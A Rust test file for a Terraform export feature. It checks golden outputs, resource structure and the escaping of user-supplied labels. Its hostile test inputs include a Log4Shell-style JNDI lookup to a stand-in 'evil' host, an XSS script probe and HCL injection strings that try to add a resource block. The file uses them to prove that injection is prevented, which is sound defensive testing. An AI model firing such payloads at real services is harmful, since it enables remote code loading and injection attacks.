#![allow(clippy::disallowed_methods)] // native tests: not part of the first load
//! Terraform export (src/core/exchange/terraform/, written with `hcl-rs`): golden exports of the
//! templates, every export parsed back with `hcl-rs`'s parser, the Party Box resources checked
//! in the parsed body (counts, sizes, priorities, path patterns as values; references as
//! traversals), and hostile labels and ids kept literal (no `${…}` interpolation, no broken
//! strings) and turned into valid, unique resource names.
#![cfg(not(target_arch = "wasm32"))]

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

use hcl::eval::{Context, Evaluate};
use hcl::{Block, Body, Expression};
use kumozu::core::document::model::Design;
use kumozu::core::document::templates::{self, TEMPLATES};
use kumozu::core::exchange::terraform::export;
use kumozu::core::format::load::load_value;
use serde_json::{json, Value};

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/terraform")
}

fn parse(tf: &str) -> Body {
    hcl::parse(tf).unwrap_or_else(|e| panic!("the export does not parse: {e}\n{tf}"))
}

/// The `resource "<ty>" "<name>"` blocks, by (type, name).
fn resources(body: &Body) -> BTreeMap<(String, String), &Block> {
    let mut out = BTreeMap::new();
    for b in body.blocks().filter(|b| b.identifier() == "resource") {
        let labels: Vec<&str> = b.labels().iter().map(|l| l.as_str()).collect();
        assert_eq!(labels.len(), 2, "resource labels {labels:?}");
        let key = (labels[0].to_owned(), labels[1].to_owned());
        assert!(
            out.insert(key.clone(), b).is_none(),
            "duplicate resource {key:?}"
        );
    }
    out
}

fn of_type<'a>(res: &'a BTreeMap<(String, String), &'a Block>, ty: &str) -> Vec<&'a Block> {
    res.iter()
        .filter(|((t, _), _)| t == ty)
        .map(|(_, b)| *b)
        .collect()
}

fn attr<'a>(b: &'a Block, key: &str) -> &'a Expression {
    b.body()
        .attributes()
        .find(|a| a.key() == key)
        .map(|a| a.expr())
        .unwrap_or_else(|| panic!("no attribute {key} in {b:?}"))
}

fn inner<'a>(b: &'a Block, ty: &str) -> Vec<&'a Block> {
    b.body().blocks().filter(|x| x.identifier() == ty).collect()
}

fn num(e: &Expression) -> f64 {
    match e {
        Expression::Number(n) => n.as_f64().unwrap(),
        other => panic!("not a number: {other:?}"),
    }
}

/// The value of a literal expression, evaluated with no variables (so a leaked `${…}` fails).
fn value(e: &Expression) -> hcl::Value {
    e.evaluate(&Context::new())
        .unwrap_or_else(|err| panic!("{e:?} does not evaluate as a literal: {err}"))
}

fn string(e: &Expression) -> String {
    match value(e) {
        hcl::Value::String(s) => s,
        other => panic!("not a string: {other:?}"),
    }
}

fn traversal(e: &Expression) -> String {
    match e {
        Expression::Traversal(_) | Expression::Variable(_) => e.to_string(),
        other => panic!("not a reference: {other:?}"),
    }
}

fn is_identifier(s: &str) -> bool {
    s.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
}

#[test]
fn golden_exports_of_the_templates() {
    let mut failures = Vec::new();
    for id in ["party-box", "ec-site", "blank"] {
        let design = templates::find(id).unwrap().design().unwrap();
        let tf = export(&design);
        parse(&tf);
        let path = fixtures().join(format!("{id}.tf.golden"));
        if let Err(e) = common::check_golden(&path, &tf) {
            failures.push(e);
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

#[test]
fn every_template_export_parses_with_valid_unique_names() {
    for t in TEMPLATES {
        let tf = export(&t.design().unwrap());
        let body = parse(&tf);
        for (ty, name) in resources(&body).keys() {
            assert!(is_identifier(name), "{}: {ty}.{name}", t.id);
        }
        assert!(body.blocks().any(|b| b.identifier() == "provider"));
    }
}

#[test]
fn party_box_has_the_expected_resources() {
    let design = templates::find("party-box").unwrap().design().unwrap();
    let tf = export(&design);
    let body = parse(&tf);
    let res = resources(&body);

    // Provider in the design's region.
    let region = body
        .blocks()
        .find(|b| b.identifier() == "variable" && b.labels()[0].as_str() == "region")
        .unwrap();
    assert_eq!(string(attr(region, "default")), "ap-northeast-1");

    // VPC, two subnets per tier in ap-northeast-1a and 1c, IGW, one NAT (placement single).
    assert_eq!(of_type(&res, "aws_vpc").len(), 1);
    let subnets = of_type(&res, "aws_subnet");
    assert_eq!(subnets.len(), 4);
    let zones: BTreeSet<String> = subnets
        .iter()
        .map(|s| string(attr(s, "availability_zone")))
        .collect();
    assert_eq!(
        zones,
        BTreeSet::from(["ap-northeast-1a".into(), "ap-northeast-1c".into()])
    );
    let cidrs: BTreeSet<String> = subnets
        .iter()
        .map(|s| string(attr(s, "cidr_block")))
        .collect();
    assert_eq!(cidrs.len(), 4, "distinct CIDR blocks: {cidrs:?}");
    for s in &subnets {
        assert_eq!(traversal(attr(s, "vpc_id")), "aws_vpc.vpc.id");
    }
    assert_eq!(of_type(&res, "aws_internet_gateway").len(), 1);
    assert_eq!(of_type(&res, "aws_nat_gateway").len(), 1);
    assert_eq!(of_type(&res, "aws_eip").len(), 1);

    // Three listener rules, priorities and path patterns as drawn, to the right target group.
    let mut rules: Vec<(f64, String, String)> = of_type(&res, "aws_lb_listener_rule")
        .iter()
        .map(|r| {
            let cond = inner(r, "condition")[0];
            let pp = inner(cond, "path_pattern")[0];
            let values = match value(attr(pp, "values")) {
                hcl::Value::Array(v) => v,
                other => panic!("{other:?}"),
            };
            let action = inner(r, "action")[0];
            (
                num(attr(r, "priority")),
                values[0].as_str().unwrap().to_owned(),
                traversal(attr(action, "target_group_arn")),
            )
        })
        .collect();
    rules.sort_by(|a, b| a.0.total_cmp(&b.0));
    assert_eq!(
        rules,
        vec![
            (
                10.0,
                "/api/*".into(),
                "aws_lb_target_group.nestjs.arn".into()
            ),
            (
                20.0,
                "/socket.io/*".into(),
                "aws_lb_target_group.nestjs.arn".into()
            ),
            (100.0, "/*".into(), "aws_lb_target_group.nextjs.arn".into()),
        ]
    );

    // The ALB: internet-facing, HTTPS with the certificate variable.
    let lb = res[&("aws_lb".into(), "alb".into())];
    assert_eq!(value(attr(lb, "internal")), hcl::Value::Bool(false));
    let listener = res[&("aws_lb_listener".into(), "alb".into())];
    assert_eq!(string(attr(listener, "protocol")), "HTTPS");
    assert_eq!(num(attr(listener, "port")), 443.0);
    assert_eq!(
        traversal(attr(listener, "certificate_arn")),
        "var.certificate_arn"
    );

    // Target groups: ip targets on port 3000; stickiness only for NestJS.
    for (svc, sticky) in [("nestjs", true), ("nextjs", false)] {
        let tg = res[&("aws_lb_target_group".into(), svc.into())];
        assert_eq!(string(attr(tg, "target_type")), "ip");
        assert_eq!(num(attr(tg, "port")), 3000.0);
        assert_eq!(!inner(tg, "stickiness").is_empty(), sticky, "{svc}");
    }

    // Two ECS services with two tasks each, Fargate 0.5 vCPU / 1 GB, auto scaling 2..4 at 70%.
    let services = of_type(&res, "aws_ecs_service");
    assert_eq!(services.len(), 2);
    for s in &services {
        assert_eq!(num(attr(s, "desired_count")), 2.0);
        assert_eq!(string(attr(s, "launch_type")), "FARGATE");
        assert_eq!(inner(s, "load_balancer").len(), 1);
        assert_eq!(traversal(attr(s, "cluster")), "aws_ecs_cluster.cluster.id");
    }
    for svc in ["nestjs", "nextjs"] {
        let task = res[&("aws_ecs_task_definition".into(), svc.into())];
        assert_eq!(string(attr(task, "cpu")), "512");
        assert_eq!(string(attr(task, "memory")), "1024");
        // The image is a template that interpolates the repository's URL.
        let Expression::FuncCall(defs) = attr(task, "container_definitions") else {
            panic!("container_definitions is not a call");
        };
        assert_eq!(defs.name.to_string(), "jsonencode");
        let image = defs.args[0].to_string();
        assert!(
            image.contains(&format!(
                "\"${{aws_ecr_repository.{svc}.repository_url}}:latest\""
            )),
            "{image}"
        );
        let target = res[&("aws_appautoscaling_target".into(), svc.into())];
        assert_eq!(num(attr(target, "min_capacity")), 2.0);
        assert_eq!(num(attr(target, "max_capacity")), 4.0);
        let policy = res[&("aws_appautoscaling_policy".into(), svc.into())];
        let conf = inner(policy, "target_tracking_scaling_policy_configuration")[0];
        assert_eq!(num(attr(conf, "target_value")), 70.0);
        assert!(res.contains_key(&("aws_ecr_repository".into(), svc.into())));
    }
    assert_eq!(of_type(&res, "aws_ecs_cluster").len(), 1);

    // RDS: Multi-AZ as in the template, reachable from NestJS only.
    let db = res[&("aws_db_instance".into(), "rds".into())];
    let template_multi_az = design.node("rds").unwrap().flag("multi_az");
    assert_eq!(
        value(attr(db, "multi_az")),
        hcl::Value::Bool(template_multi_az)
    );
    assert_eq!(string(attr(db, "engine")), "postgres");
    assert_eq!(string(attr(db, "instance_class")), "db.t4g.micro");
    assert_eq!(num(attr(db, "allocated_storage")), 20.0);
    assert!(res.contains_key(&("aws_db_subnet_group".into(), "rds".into())));
    let sg = res[&("aws_security_group".into(), "rds".into())];
    let ingress = inner(sg, "ingress")[0];
    assert_eq!(num(attr(ingress, "from_port")), 5432.0);
    assert_eq!(
        attr(ingress, "security_groups")
            .to_string()
            .split_whitespace()
            .collect::<String>(),
        "[aws_security_group.nestjs.id]"
    );

    // What has no mapping yet is named in a TODO comment, not dropped.
    assert!(tf.contains("# TODO: cloudwatch \"CloudWatch\""), "{tf}");
    assert!(tf.contains("# TODO: acm "), "{tf}");
}

#[test]
fn ec_site_names_its_unmapped_kinds_in_todos() {
    let tf = export(&templates::find("ec-site").unwrap().design().unwrap());
    parse(&tf);
    for kind in ["route53", "cloudfront", "s3", "elasticache"] {
        assert!(tf.contains(&format!("# TODO: {kind} ")), "{kind}:\n{tf}");
    }
}

const NASTY: &[&str] = &[
    "${jndi:ldap://evil/x}",
    "%{if true}yes%{endif}",
    "$${already} %%{escaped}",
    "a \"quoted\" label",
    "back\\slash\\",
    "line one\nline two\r\n\ttab",
    "<script>alert(1)</script>",
    "パーティー 🎉 ünïcødé",
    "$",
    "%",
    "ends with ${",
    "}\"\n# not a comment\nresource \"x\" \"y\" {",
    // Markers right after another `$` or `%`: hcl-rs's own escaping misses these.
    "${a}%${b}",
    "${a}$${b}",
    "%${x} $%{y}",
];

/// Ids of the extra ECS services in [`nasty_design`]: they start with digits, hold template
/// markers, or collide after sanitising. As many as [`NASTY`], so that each label is a service's.
const EXTRA_IDS: &[&str] = &[
    "1st service",
    "my svc",
    "my.svc",
    "my_svc",
    "${x}",
    "%{y}",
    "サービス",
    "-dash",
    "\"q\"",
    "my-svc",
    "n_1st_service",
    "a\\b",
    "${a}%${b}",
    "x%${y}",
    "$${z}",
];

/// Party Box with every node relabelled with a nasty label, and extra services ([`EXTRA_IDS`])
/// with nasty labels and rules whose path patterns hold template markers.
fn nasty_design() -> Design {
    let mut doc: Value = serde_json::from_str(templates::find("party-box").unwrap().json).unwrap();
    let nodes = doc["nodes"].as_array_mut().unwrap();
    for (i, n) in nodes.iter_mut().enumerate() {
        n["label"] = json!(NASTY[i % NASTY.len()]);
    }
    for (i, id) in EXTRA_IDS.iter().enumerate() {
        nodes.push(json!({
            "id": id, "kind": "ecs_service", "label": NASTY[i % NASTY.len()],
            "x": 600 + 10 * i, "y": 200, "parent": "cluster"
        }));
    }
    nodes.push(json!({"id": "9sqs", "kind": "sqs", "label": "${queue}\n%{q}", "x": 0, "y": 0}));
    let edges = doc["edges"].as_array_mut().unwrap();
    for (i, id) in EXTRA_IDS.iter().enumerate() {
        edges.push(json!({
            "id": format!("rule {id}"), "kind": "alb_rule", "from": "alb", "to": id,
            "rule": { "priority": 200 + i, "path_pattern": format!("/x{i}/${{jndi}}/%${{if}}/\"*") }
        }));
        edges.push(
            json!({"id": format!("pull.{id}"), "kind": "image_pull", "from": id, "to": "ecr"}),
        );
    }
    doc["name"] = json!("Party ${Box}\n\"%{x}\"");
    load_value(doc)
        .unwrap_or_else(|e| panic!("the nasty design loads: {e}"))
        .design
}

#[test]
fn nasty_labels_and_ids_stay_literal_and_names_stay_valid() {
    let design = nasty_design();
    let tf = export(&design);
    let body = parse(&tf);
    let res = resources(&body);
    for (ty, name) in res.keys() {
        assert!(is_identifier(name), "{ty}.{name}");
    }
    // Every tags.Name is exactly a node's label (or the label with its AZ).
    let labels: BTreeSet<String> = design.nodes.values().map(|n| n.label.clone()).collect();
    let mut seen = BTreeSet::new();
    for b in res.values() {
        let Some(tags) = b.body().attributes().find(|a| a.key() == "tags") else {
            continue;
        };
        let hcl::Value::Object(obj) = value(tags.expr()) else {
            panic!("tags is not an object");
        };
        let name = obj["Name"].as_str().unwrap().to_owned();
        let base = match name.rfind(" (ap-northeast-1") {
            Some(i) if !labels.contains(&name) => name[..i].to_owned(),
            _ => name.clone(),
        };
        assert!(labels.contains(&base), "tag {name:?} is no node's label");
        seen.insert(base);
    }
    for nasty in NASTY {
        assert!(seen.contains(*nasty), "{nasty:?} never came out as a tag");
    }
    // The extra services all got their own resources and rules, with literal path patterns.
    assert_eq!(NASTY.len(), EXTRA_IDS.len());
    assert_eq!(of_type(&res, "aws_ecs_service").len(), 2 + EXTRA_IDS.len());
    assert_eq!(
        of_type(&res, "aws_lb_listener_rule").len(),
        3 + EXTRA_IDS.len()
    );
    let patterns: BTreeSet<String> = of_type(&res, "aws_lb_listener_rule")
        .iter()
        .map(|r| {
            let pp = inner(inner(r, "condition")[0], "path_pattern")[0];
            match value(attr(pp, "values")) {
                hcl::Value::Array(v) => v[0].as_str().unwrap().to_owned(),
                other => panic!("{other:?}"),
            }
        })
        .collect();
    assert!(patterns.contains("/x0/${jndi}/%${if}/\"*"), "{patterns:?}");
    // The SQS node is named in a TODO; the comment holds its label on one line.
    let todo = tf
        .lines()
        .find(|l| l.starts_with("# TODO: sqs "))
        .expect("a TODO for the queue");
    assert!(todo.contains(r#""$${queue}\n%%{q}""#), "{todo}");
    // Nothing outside a string or comment came from user text.
    assert!(!tf.contains("\nresource \"x\""), "{tf}");
}

#[test]
fn duplicate_after_sanitising_ids_get_distinct_names() {
    let design = nasty_design();
    let tf = export(&design);
    let body = parse(&tf);
    let names: Vec<String> = body
        .blocks()
        .filter(|b| b.identifier() == "resource" && b.labels()[0].as_str() == "aws_ecs_service")
        .map(|b| b.labels()[1].as_str().to_owned())
        .collect();
    let unique: BTreeSet<&String> = names.iter().collect();
    assert_eq!(unique.len(), names.len(), "{names:?}");
    assert!(names.contains(&"my_svc".to_owned()), "{names:?}");
    assert!(names.contains(&"n_1st_service".to_owned()), "{names:?}");
    // Every reference to a service resource points at one that exists.
    let res = resources(&body);
    for svc in of_type(&res, "aws_ecs_service") {
        let task = traversal(attr(svc, "task_definition"));
        let name = task
            .strip_prefix("aws_ecs_task_definition.")
            .and_then(|t| t.strip_suffix(".arn"))
            .unwrap();
        assert!(res.contains_key(&("aws_ecs_task_definition".into(), name.into())));
    }
}

#[test]
fn designs_in_other_shapes_still_parse() {
    // A VPC with a /24 block, a per-AZ NAT, an internal HTTP ALB with a default action, a
    // service outside any cluster, and no VPC at all.
    let mut doc: Value = serde_json::from_str(templates::find("party-box").unwrap().json).unwrap();
    for n in doc["nodes"].as_array_mut().unwrap() {
        match n["id"].as_str().unwrap() {
            "vpc" => n["params"]["cidr"] = json!("10.1.2.0/24"),
            "nat" => n["params"]["placement"] = json!("per_az"),
            "alb" => {
                n["params"]["scheme"] = json!("internal");
                n["params"]["listener_protocol"] = json!("HTTP");
            }
            "nextjs" => n["parent"] = json!("private"),
            _ => {}
        }
    }
    doc["edges"]
        .as_array_mut()
        .unwrap()
        .push(json!({"id": "default", "kind": "alb_default", "from": "alb", "to": "nextjs"}));
    let design = load_value(doc).unwrap().design;
    let tf = export(&design);
    let body = parse(&tf);
    let res = resources(&body);
    assert_eq!(of_type(&res, "aws_nat_gateway").len(), 2);
    assert_eq!(
        string(attr(
            res[&("aws_subnet".into(), "public_a".into())],
            "cidr_block"
        )),
        "10.1.2.0/28"
    );
    let lb = res[&("aws_lb".into(), "alb".into())];
    assert_eq!(value(attr(lb, "internal")), hcl::Value::Bool(true));
    let listener = res[&("aws_lb_listener".into(), "alb".into())];
    assert_eq!(string(attr(listener, "protocol")), "HTTP");
    let action = inner(listener, "default_action")[0];
    assert_eq!(
        traversal(attr(action, "target_group_arn")),
        "aws_lb_target_group.nextjs.arn"
    );
    assert!(!tf.contains("variable \"certificate_arn\""), "{tf}");
    assert!(res.contains_key(&("aws_ecs_cluster".into(), "default".into())));

    let empty = Design::empty("Nothing", kumozu::core::Region::UsEast1);
    let tf = export(&empty);
    let body = parse(&tf);
    assert!(resources(&body).is_empty());
    assert!(tf.contains("\"us-east-1\""), "{tf}");
}

#[test]
fn what_hcl_rs_cannot_hold_becomes_a_comment_above_its_block() {
    // A service outside any cluster (the default cluster's comment), a public tier in a VPC
    // without an Internet Gateway, and scaling on ALB requests (resource_label is left to do).
    let mut doc: Value = serde_json::from_str(templates::find("party-box").unwrap().json).unwrap();
    doc["nodes"]
        .as_array_mut()
        .unwrap()
        .retain(|n| n["id"] != "igw");
    doc["edges"]
        .as_array_mut()
        .unwrap()
        .retain(|e| e["from"] != "igw" && e["to"] != "igw");
    for n in doc["nodes"].as_array_mut().unwrap() {
        match n["id"].as_str().unwrap() {
            "nextjs" => n["parent"] = json!("private"),
            "nestjs" => n["params"]["scaling_metric"] = json!("alb_requests"),
            _ => {}
        }
    }
    let design = load_value(doc).unwrap().design;
    let tf = export(&design);
    let body = parse(&tf);
    let res = resources(&body);
    assert!(res.contains_key(&("aws_ecs_cluster".into(), "default".into())));
    let policy = res[&("aws_appautoscaling_policy".into(), "nestjs".into())];
    let conf = inner(policy, "target_tracking_scaling_policy_configuration")[0];
    let spec = inner(conf, "predefined_metric_specification")[0];
    assert_eq!(
        string(attr(spec, "predefined_metric_type")),
        "ALBRequestCountPerTarget"
    );
    for (comment, block) in [
        (
            "# For the services drawn outside any ECS cluster.",
            "resource \"aws_ecs_cluster\" \"default\" {",
        ),
        (
            "# No Internet Gateway in this VPC: no route to the internet.",
            "resource \"aws_route_table\" \"public_public\" {",
        ),
        (
            "# TODO: resource_label = \"<ALB ARN suffix>/<target group ARN suffix>\" in the predefined_metric_specification of aws_appautoscaling_policy.nestjs.",
            "resource \"aws_appautoscaling_policy\" \"nestjs\" {",
        ),
    ] {
        assert!(
            tf.contains(&format!("{comment}\n{block}")),
            "{comment:?} right above {block:?}:\n{tf}"
        );
    }
}
